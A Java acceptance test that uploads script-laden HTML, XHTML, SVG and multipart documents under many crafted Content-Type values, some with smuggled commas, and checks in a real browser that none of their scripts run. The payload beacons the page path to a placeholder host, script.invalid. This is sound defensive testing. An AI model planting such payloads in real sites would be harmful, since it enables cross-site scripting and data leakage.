package dev.edgepass.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import dev.edgepass.local.media.R2;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.Writer;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.s3.S3Client;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Uploads whose makers want scripts to run in the media's origin, opened in a real browser. They come by S3, past the issuer's door. Needs Chromium on the machine. */
class InertMediaIT {
    private static final String SCRIPT = "new Image().src = 'https://script.invalid/' + location.pathname";

    /** What a document of any type that runs scripts could be. */
    private static final Map<String, String> DOCUMENTS = Map.of(
            "html", "<!doctype html><title>x</title><script>" + SCRIPT + "</script>",
            "xhtml",
                    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><head><script>" + SCRIPT
                            + "</script></head></html>",
            "svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>" + SCRIPT + "</script></svg>",
            "parts",
                    "--x\r\nContent-Type: text/html\r\n\r\n<script>" + SCRIPT + "</script>\r\n--x\r\n"
                            + "Content-Type: image/svg+xml\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg'><script>"
                            + SCRIPT
                            + "</script></svg>\r\n--x--\r\n");

    private static final String PDF = """
        %PDF-1.4
        1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
        2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
        3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj
        trailer<</Size 4/Root 1 0 R>>
        %%EOF
        """;

    private static S3Client r2;
    private static String bucket;
    private static Product product;
    private static String viewer;
    private static Process browser;
    private static Writer commands;
    private static BufferedReader answers;

    @BeforeAll
    static void openBrowser() throws IOException {
        Path chromium = Chromium.required();
        RunningStack stack = SharedStack.get();
        product = new Product(stack);
        viewer = product.mediaToken(stack.login("--sub", "viewer", "--paths", "inert/"), "inert/");
        bucket = stack.s3().mediaBucket();
        r2 = R2.client(stack.s3());
        browser = new ProcessBuilder(
                        "node", Chromium.SCRIPTS.resolve("inert.mjs").toString(), chromium.toString())
                .redirectError(EdgepassCommand.ROOT
                        .resolve("acceptance/target/inert.out")
                        .toFile())
                .start();
        commands = browser.outputWriter();
        answers = browser.inputReader();
    }

    @AfterAll
    static void closeBrowser() throws IOException, InterruptedException {
        if (browser != null) {
            commands.close();
            browser.waitFor(60, TimeUnit.SECONDS);
            browser.destroyForcibly();
            r2.close();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/html",
                "TEXT/HTML; charset=utf-8",
                "text/html;",
                "image/svg+xml",
                "application/xhtml+xml",
                "application/xml",
                "text/xml",
                "text/xsl",
                "application/rdf+xml",
                "application/mathml+xml",
                "application/dash+xml",
                "multipart/x-mixed-replace; boundary=x",
                "multipart/x-mixed-replace;boundary=\"x\"",
                "application/pdf;a=\"x\",text/html,b=\"y\"",
                "image/png;a=\"x\",text/html,b=\"y\"",
                "text/plain;a=\"b\",image/svg+xml,c=\"d\"",
                "image/png,text/html",
                "text/javascript",
                "text/css",
                "application/octet-stream",
                "application/x-unknown-tomorrow",
                "text/plain",
                "image/png",
                "video/mp4",
                "*/*"
            })
    void no_script_runs(String contentType) throws IOException {
        for (Map.Entry<String, String> document : DOCUMENTS.entrySet()) {
            URI url = put(document.getKey(), contentType, document.getValue());

            JsonNode opened = open(url);

            assertThat(opened.get("ran").booleanValue())
                    .as(document.getKey() + " as " + contentType + ": " + opened)
                    .isFalse();
        }
    }

    @Test
    void a_script_that_runs_would_be_noticed() throws IOException {
        String page = "data:text/html;base64,"
                + Base64.getEncoder().encodeToString(DOCUMENTS.get("html").getBytes());

        assertThat(open(URI.create(page)).get("ran").booleanValue()).isTrue();
    }

    @Test
    void a_page_is_shown_without_its_scripts_and_a_pdf_in_the_browsers_own_viewer() throws IOException {
        assertThat(open(put("page", "text/html", DOCUMENTS.get("html")))
                        .get("type")
                        .asString())
                .isEqualTo("text/html");

        JsonNode pdf = open(put("document", "application/pdf", PDF));
        assertThat(pdf.get("type").asString()).isEqualTo("application/pdf");
        assertThat(pdf.get("viewer").booleanValue()).isTrue();
    }

    private static URI put(String name, String contentType, String content) {
        String key = "inert/" + name + "-" + Integer.toHexString((contentType + content).hashCode());
        r2.putObject(
                object -> object.bucket(bucket).key(key).contentType(contentType), RequestBody.fromString(content));
        return SharedStack.get().edges().get(0).resolve("/view/" + viewer + "/" + key);
    }

    private static JsonNode open(URI url) throws IOException {
        commands.write(JsonMapper.shared().writeValueAsString(Map.of("open", url.toString())) + "\n");
        commands.flush();
        String answer = answers.readLine();
        assertThat(answer)
                .as(Files.readString(EdgepassCommand.ROOT.resolve("acceptance/target/inert.out")))
                .isNotNull();
        JsonNode opened = JsonMapper.shared().readTree(answer);
        assertThat(opened.has("failed")).as(url.getPath() + ": " + answer).isFalse();
        return opened;
    }
}
